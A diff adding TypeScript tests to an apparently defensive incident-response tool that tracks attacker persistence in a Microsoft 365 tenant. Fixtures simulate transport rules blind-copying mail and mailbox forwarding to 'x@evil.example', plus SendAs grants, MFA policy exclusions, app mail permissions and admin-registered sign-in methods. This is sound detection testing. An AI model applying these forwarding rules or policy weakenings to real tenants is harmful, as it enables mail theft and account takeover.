@@ -3,7 +3,21 @@ import { openItems } from '../src/features/incident/open-items';
 import { type IncidentLab, night, openIncidentLab } from './support/corridor/incident-lab';
 import { ids } from './support/corridor/office';
 import { quietTenant } from './support/intrusion/course';
-import type { At, Planted, Trace } from './support/intrusion/plant';
+import { method as signsIn } from './support/intrusion/method-traces';
+import {
+  type At,
+  audit,
+  exchangeRows,
+  id as idOf,
+  listOf,
+  type Planted,
+  person,
+  ran,
+  rows,
+  someone,
+  type Trace,
+  without,
+} from './support/intrusion/plant';
 import { traces, unseenTraces } from './support/intrusion/traces';
 import { count } from './support/runner/counts';
 import { accounts } from './support/tenants/incident-tenant';
@@ -126,6 +140,132 @@ describe('what the account holds beside what it did', () => {
     inTenant((state) => groups(['Sales', 'Board', 'Admins']).plant(state, at));
     await later();
     expect(owns()).toEqual(['owns 3 groups, and can add members: Sales, Board, Admins']);
+  });
+});
+
+describe('what the log names, and is called something else since', () => {
+  const rule = { Guid: idOf(40), Name: 'Disclaimer', Identity: 'Disclaimer', State: 'Enabled', Mode: 'Enforce' };
+  const connector = { Guid: idOf(41), Name: 'Partner', Identity: 'Partner', Enabled: true, ConnectorType: 'OnPremises' };
+  const copying = { ...rule, BlindCopyTo: ['x@evil.example'] };
+  const acts = (noun: string, made: object, ...ran_: readonly Record<string, string>[]): Pick<Trace, 'plant'> => ({
+    plant: (state) => {
+      exchangeRows(state, noun).push({ ...made });
+      for (const parameters of ran_) ran(state, at, `${'Identity' in parameters ? 'Set' : 'New'}-${noun}`, parameters);
+    },
+  });
+
+  test.each([
+    ['a rule', 'TransportRule', copying, [{ Name: 'copy all' }, { Identity: 'copy all', Name: 'Disclaimer' }]],
+    ['a rule that another one renamed', 'TransportRule', copying, [{ Name: 'copy all' }]],
+    ['a connector', 'InboundConnector', connector, [{ Name: 'relay' }, { Identity: 'relay', Name: 'Partner' }]],
+    ['a connector that was changed by its id', 'InboundConnector', connector, [{ Identity: idOf(41), RequireTls: 'False' }]],
+  ])('%s stays open until it is gone', async (_what, noun, made, done) => {
+    await open(acts(noun, made, ...done));
+    expect(await whyNot()).toContain(`-${noun}`);
+    inTenant((state) => without(exchangeRows(state, noun), (row) => row['Guid'] === made.Guid));
+    expect(await whyNot()).toContain('gone in one reading');
+    await later();
+    expect(await whyNot()).toBe('');
+  });
+
+  test('beside what nobody touched since it is gone', async () => {
+    const before = new Date(at.at.getTime() - 2 * 24 * 60 * minutes).toISOString();
+    await open(acts('TransportRule', { ...rule, WhenChanged: before }, { Name: 'copy all' }));
+    expect(openNow().join('\n')).not.toContain('TransportRule');
+  });
+
+  test.each([
+    ['a right to a mailbox', 'Add-MailboxPermission', { Identity: 'temp1', User: accounts.shared.name }],
+    ['a right to send', 'Add-RecipientPermission', { Identity: 'temp1', Trustee: accounts.shared.name }],
+    ['a protocol', 'Set-CASMailbox', { Identity: 'temp1', PopEnabled: 'True' }],
+    ['forwarding', 'Set-Mailbox', { Identity: 'temp1', ForwardingSmtpAddress: 'x@evil.example' }],
+  ])('%s stays open where nothing is called so any more', async (_what, cmdlet, parameters) => {
+    await open({ plant: (state) => ran(state, at, cmdlet, parameters) });
+    expect(await whyNot()).toContain(cmdlet);
+  });
+});
+
+describe('what was done twice under one name, of which the later act was taken back', () => {
+  const { shared } = accounts;
+  const [first, second] = [at, { ...at, at: new Date(at.at.getTime() + 60 * minutes) }];
+  const policy = (excludeUsers: readonly string[]) => ({
+    id: idOf(60),
+    displayName: 'Require MFA',
+    state: 'enabled',
+    conditions: { users: { includeUsers: ['All'], excludeUsers } },
+    grantControls: { operator: 'OR', builtInControls: ['mfa'] },
+  });
+  const weakened = (state: Planted, when: At, before: object, after: object): void => {
+    const was = { displayName: 'ConditionalAccessPolicy', oldValue: JSON.stringify(before), newValue: JSON.stringify(after) };
+    const target = { id: idOf(60), type: 'Policy', displayName: 'Require MFA', modifiedProperties: [was] };
+    audit(state, when, 'Update Conditional Access policy', [target]);
+  };
+  const assigned = (state: Planted, when: At, role: string): void => {
+    const written = { 'ServicePrincipal.ObjectID': idOf(61), 'ServicePrincipal.DisplayName': 'Archive', 'AppRole.Value': role };
+    audit(state, when, 'Add app role assignment to service principal', [
+      { ...person({ id: '', userPrincipalName: '' }, written), id: idOf(62), type: 'ServicePrincipal' },
+    ]);
+  };
+
+  test.each<readonly [string, string, (state: Planted) => void]>([
+    [
+      'two people who may send as a mailbox',
+      'Add-RecipientPermission',
+      (state) => {
+        listOf(state.exchange, 'RecipientPermission', shared.name).push({
+          Identity: 'info',
+          Trustee: mia.name,
+          AccessControlType: 'Allow',
+          AccessRights: ['SendAs'],
+          IsInherited: false,
+        });
+        const max = { Guid: idOf(67), Identity: 'max', Name: 'max', PrimarySmtpAddress: 'max@contoso.com' };
+        exchangeRows(state, 'Mailbox').push(max);
+        ran(state, first, 'Add-RecipientPermission', { Identity: shared.name, Trustee: mia.name });
+        ran(state, second, 'Add-RecipientPermission', { Identity: shared.name, Trustee: max.Name });
+      },
+    ],
+    [
+      'two exclusions from a policy',
+      'changed a Conditional Access policy: Require MFA',
+      (state) => {
+        const [whole, one, both] = [policy([]), policy([idOf(65)]), policy([idOf(65), idOf(66)])];
+        rows(state, 'conditionalAccessPolicies').push(one);
+        weakened(state, first, whole, one);
+        weakened(state, second, one, both);
+      },
+    ],
+    [
+      'two permissions of an app',
+      'Archive was given a permission of its own',
+      (state) => {
+        listOf(state.graph, 'appRoleAssignments', idOf(61)).push({
+          id: 'first',
+          appRoleId: idOf(63),
+          principalId: idOf(61),
+          principalType: 'ServicePrincipal',
+          resourceId: idOf(62),
+          createdDateTime: first.at.toISOString(),
+        });
+        rows(state, 'servicePrincipals').push({ id: idOf(61), appId: idOf(64), displayName: 'Archive' });
+        assigned(state, first, 'Mail.ReadWrite');
+        assigned(state, second, 'User.Read.All');
+      },
+    ],
+    [
+      'two ways to sign in as someone else',
+      `a sign-in method for another account: ${someone.userPrincipalName}`,
+      (state) => {
+        rows(state, 'users').push({ ...someone, displayName: 'help', accountEnabled: true });
+        signsIn('phone')(state, { ...first, id: someone.id });
+        audit(state, first, 'Admin registered security info', [person(someone)]);
+        audit(state, second, 'Admin registered security info', [person(someone)]);
+      },
+    ],
+  ])('%s: the earlier one stays open', async (_what, words, plant) => {
+    await open({ plant });
+    expect(openNow().join('\n')).toContain(words);
+    expect(await whyNot()).toContain('does not get access back');
   });
 });
 
